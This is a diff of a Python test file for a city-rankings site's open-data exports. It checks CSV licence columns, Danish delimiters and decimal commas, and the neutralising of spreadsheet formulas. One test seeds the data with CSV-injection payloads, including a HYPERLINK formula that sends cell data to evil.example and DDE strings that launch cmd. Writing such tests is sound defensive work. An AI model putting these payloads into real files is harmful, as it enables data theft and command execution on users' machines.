@@ -1,4 +1,5 @@
-"""Open-data exports parse back (csv, openpyxl, json) with the right numbers, labels and licence."""
+"""Open-data exports parse back (csv, openpyxl, json) with the right numbers, labels and licence; the CSV in
+the spreadsheet conventions of its language (tested on the bytes), formulas from data kept as text."""
 
 from __future__ import annotations
 
@@ -31,21 +32,17 @@ def download(fmt: str, lang: str = "en", round_slug: str = "2024") -> Any:
     return response
 
 
-def read_csv(content: bytes) -> tuple[str, list[dict[str, str]]]:
-    text = content.decode("utf-8-sig")
-    first, rest = text.split("\r\n", 1)
-    return first, list(csv.DictReader(io.StringIO(rest, newline="")))
+def read_csv(content: bytes, separator: str = ",") -> list[dict[str, str]]:
+    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))
 
 
-def test_csv_in_english_has_the_licence_line_and_the_numbers(rw: ResultsWorld) -> None:
+def test_csv_in_english_has_commas_decimal_points_and_the_licence_in_columns(rw: ResultsWorld) -> None:
     response = download("csv")
     assert response["Content-Type"].startswith("text/csv")
-    licence, rows = read_csv(response.content)
-    assert (
-        licence.startswith("# ")
-        and "CC BY 4.0" in licence
-        and "creativecommons.org/licenses/by/4.0" in licence
-    )
+    assert response.content.startswith(b"\xef\xbb\xbfRank,Number of cities,City,City short name,Country,")
+    assert response.content.split(b"\r\n")[0].endswith(b",Source,Source address,Note,Licence,Licence address")
+    rows = read_csv(response.content)
     assert [(r["Rank"], r["City"], r["Overall score"]) for r in rows] == [
         ("1", "Ankeby", "80.0"),
         ("2", "Birkeby", "70.0"),
@@ -59,13 +56,67 @@ def test_csv_in_english_has_the_licence_line_and_the_numbers(rw: ResultsWorld) -
     assert cederby["Extended index"] == "69.0" and cederby["Number of cities"] == "6"
     assert rows[1]["Education"] == ""  # Birkeby has no education score
     assert rows[3]["Source"] == "Published report 2024" and rows[3]["Commitment"] == ""
+    assert {(r["Licence"], r["Licence address"]) for r in rows} == {
+        ("CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/")
+    }
 
 
-def test_csv_labels_follow_the_language(rw: ResultsWorld) -> None:
-    licence, rows = read_csv(download("csv", "da").content)
-    assert "åbne data" in licence and "CC BY 4.0" in licence
-    assert {"Placering", "By", "Samlet score", "Forpligtelse", "Uddannelse", "Sprog"} <= set(rows[0])
-    assert rows[0]["By"] == "Ankeby" and rows[0]["Samlet score"] == "80.0"
+def test_csv_in_danish_opens_in_danish_excel_semicolons_decimal_commas_no_line_above_the_header(
+    rw: ResultsWorld,
+) -> None:
+    content = download("csv", "da").content
+    lines = content.split(b"\r\n")
+    assert (
+        lines[0]
+        == (
+            "\ufeffPlacering;Antal byer;By;Byens korte navn;Land;Samlet score;Udvidet indeks;Forpligtelse;"
+            "Uddannelse;Sprog;Type resultat;Kilde;Kildens adresse;Bemærkning;Licens;Licensens adresse"
+        ).encode()
+    )
+    assert lines[1].startswith(b"1;6;Ankeby;ankeby;DK;80,0;")
+    cederby = next(line for line in lines if b";cederby;" in line).split(b";")
+    assert cederby[5:10] == [b"70,0", b"69,0", b"50,0", b"80,0", b"55,0"]
+    assert lines[-1] == b""  # every row ends with CRLF, nothing after the last
+    rows = read_csv(content, ";")
+    assert rows[0]["By"] == "Ankeby" and rows[0]["Samlet score"] == "80,0"
+    assert rows[0]["Licens"] == "CC BY 4.0"
+
+
+def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_stays_text(rw: ResultsWorld) -> None:
+    from mangfold.web.assessments.models import Assessment
+
+    Assessment.objects.filter(city__slug="fjordby", round__slug="2024").update(
+        source='=HYPERLINK("http://evil.example/?x="&A1,"report")',
+        source_url="@SUM(1+1)*cmd|' /C calc'!A0",
+        note="+cmd|' /C calc'!A0",
+    )
+    Assessment.objects.filter(city__slug="dalby", round__slug="2024").update(note="-2+3", source="\tx")
+    rows = {r["City short name"]: r for r in read_csv(download("csv").content)}
+    fjordby, dalby = rows["fjordby"], rows["dalby"]
+    assert fjordby["Source"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"report")'
+    assert fjordby["Source address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert fjordby["Note"] == "'+cmd|' /C calc'!A0"
+    assert dalby["Note"] == "'-2+3" and dalby["Source"] == "'\tx"
+    assert fjordby["Overall score"] == "66.0"  # numbers are untouched
+
+
+@pytest.mark.parametrize(
+    ("value", "decimal", "cell"),
+    [
+        (-15.7, ",", "-15,7"),
+        (-15.7, ".", "-15.7"),
+        (-3, ",", "-3"),
+        (66.25, ",", "66,25"),
+        (None, ",", ""),
+        ("-15,7", ",", "'-15,7"),
+        ("\rx", ",", "'\rx"),
+        ("Aarhus", ",", "Aarhus"),
+    ],
+)
+def test_numbers_stay_numbers_and_text_is_neutralised(value: Any, decimal: str, cell: str) -> None:
+    from mangfold.web.results.exports import csv_cell
+
+    assert csv_cell(value, decimal) == cell
 
 
 @pytest.mark.parametrize(
@@ -107,7 +158,7 @@ def test_exports_hold_no_unpublished_embargoed_or_private_data(rw: ResultsWorld)
         assert "Granby" not in body and "Holmby" not in body and SECRET not in body
         assert "evidence" not in body.lower().replace("answers and evidence are not part", "")
     assert json.loads(download("json", round_slug="2025").content)["results"] == []
-    assert read_csv(download("csv", round_slug="2025").content)[1] == []
+    assert read_csv(download("csv", round_slug="2025").content) == []
 
 
 def test_an_unknown_format_is_not_found(rw: ResultsWorld) -> None:
